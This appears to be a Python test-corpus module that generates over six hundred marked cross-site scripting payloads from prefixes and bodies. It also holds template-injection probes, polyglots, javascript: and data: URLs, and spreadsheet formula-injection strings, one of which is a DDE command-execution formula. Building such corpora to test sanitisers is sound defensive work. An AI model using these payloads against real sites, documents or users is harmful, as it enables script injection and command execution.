"""Words that would run in a browser, were they ever markup: over six hundred, made from parts."""

from collections.abc import Iterator
from itertools import product

MARK = "xssmark"  # an attribute, an element or a script that holds this came from one of these
BEFORE = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</style>",
    "</select>",
    "</noscript>",
    "`>",
)
BODIES = (
    "<script xssmark>alert(1)</script>",
    "<SCRIPT/xssmark>alert(1)</SCRIPT>",
    "<script\n xssmark>alert(1)</script\n>",
    "<script xssmark src=//127.0.0.1:1/x></script>",
    "<img xssmark src=x onerror=alert(1)>",
    "<img/xssmark/src=x/onerror=alert(1)>",
    "<IMG XSSMARK SRC=x OnErRoR=alert(1)>",
    "<img xssmark src=x onerror\x0c=alert(1)>",
    '<img xssmark src="x" onerror="alert`1`">',
    "<img xssmark src=x onerror=alert(1)//",
    "<svg xssmark onload=alert(1)>",
    "<svg xssmark><script>alert(1)</script></svg>",
    "<svg xssmark><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg xssmark><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg xssmark><use href=data:image/svg+xml;base64,PHN2Zz4=#x>",
    "<math xssmark><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table xssmark><mglyph><style><img src onerror=alert(1)>",
    "<body xssmark onload=alert(1)>",
    "<body xssmark onpageshow=alert(1)>",
    "<iframe xssmark src=javascript:alert(1)></iframe>",
    "<iframe xssmark srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object xssmark data=javascript:alert(1)></object>",
    "<embed xssmark src=javascript:alert(1)>",
    "<base xssmark href=//127.0.0.1:1/>",
    "<link xssmark rel=stylesheet href=//127.0.0.1:1/x.css>",
    "<meta xssmark http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style xssmark>*{background:url(//127.0.0.1:1/)}</style>",
    "<x xssmark style=width:expression(1)>",
    "<a xssmark href=javascript:alert(1)>x</a>",
    "<a xssmark href='java\tscript:alert(1)'>x</a>",
    "<a xssmark href='\x01javascript:alert(1)'>x</a>",
    "<a xssmark href=JaVaScRiPt:alert(1)>x</a>",
    "<a xssmark href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a xssmark href=vbscript:msgbox(1)>x</a>",
    "<a xssmark href=&#106;avascript:alert(1)>x</a>",
    "<form xssmark action=javascript:alert(1)><input type=submit>",
    "<button xssmark formaction=javascript:alert(1)>x</button>",
    "<input xssmark autofocus onfocus=alert(1)>",
    "<select xssmark autofocus onfocus=alert(1)>",
    "<textarea xssmark autofocus onfocus=alert(1)>",
    "<details xssmark open ontoggle=alert(1)>",
    "<video xssmark><source onerror=alert(1)></video>",
    "<audio xssmark src=x onerror=alert(1)>",
    "<marquee xssmark onstart=alert(1)>",
    "<div xssmark onpointerenter=alert(1)>x</div>",
    "<p xssmark hx-get=//127.0.0.1:1/ hx-trigger=load>x</p>",
    "<p xssmark hx-on::load=alert(1)>x</p>",
    "<p xssmark data-hx-get=/x data-hx-trigger=load>",
    "<template xssmark><script>alert(1)</script></template>",
    "<xss xssmark onclick=alert(1)>x</xss>",
    '" xssmark onmouseover=alert(1) x="',
    "' xssmark onmouseover=alert(1) x='",
    "xssmark onmouseover=alert(1) ",
    '\\" xssmark onfocus=alert(1) autofocus x=\\"',
)
ALONE = (
    "{{ xssmark }}",
    "{% load xssmark %}",
    "{% debug %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "{0.__class__.__mro__}",
    "%(xssmark)s",
    "%s%n",
    "javascript:alert('xssmark')",
    "\u202ejavascript:alert('xssmark')",
    "<!--xssmark--!><svg onload=alert(1)>",
    "\ufeff<script xssmark>",
    "＜script xssmark＞alert(1)＜/script＞",
    "%3Cscript%20xssmark%3E",
    "&lt;script xssmark&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt xssmark>alert(1)</scr</script>ipt>",
    "\u2028alert('xssmark')\u2029",
    "';alert('xssmark')//",
    "\\u003cscript xssmark\\u003e",
)
ADDRESSES = (
    "javascript:alert('xssmark')",
    "JaVaScRiPt:alert('xssmark')",
    " javascript:alert('xssmark')",
    "java\tscript:alert('xssmark')",
    "data:text/html,<script>alert('xssmark')</script>",
    "vbscript:msgbox('xssmark')",
    'https://x.com/" xssmark onmouseover=alert(1) x="',
    "\x01javascript:alert('xssmark')",
    "feed:javascript:alert('xssmark')",
)
FORMULAS = (
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://127.0.0.1:1/","x")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\ufeff=1+1",
)
POLYGLOTS = (
    "jaVasCript:/*-/*`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/--!><sVg/oNloAd=alert(1)>",
    "\"'--></style></script></title></textarea><img src=x onerror=alert(1)><svg/onload=alert(1)>",
    "'\"><details open ontoggle=alert(1)><input autofocus onfocus=alert(1)>${alert(1)}{{7*7}}",
    "</noscript><iframe srcdoc='<script>top.alert(1)</script>'></iframe><base href=//127.0.0.1:1/>",
    '" onfocus=alert(1) autofocus hx-on::load=alert(1) hx-get=/x hx-trigger=load x="<b>&lt;u&gt;',
)


def payloads() -> list[str]:
    """Return every word, in one order."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for before, body in product(BEFORE, BODIES):
        yield before + body
    yield from ALONE
    yield from POLYGLOTS
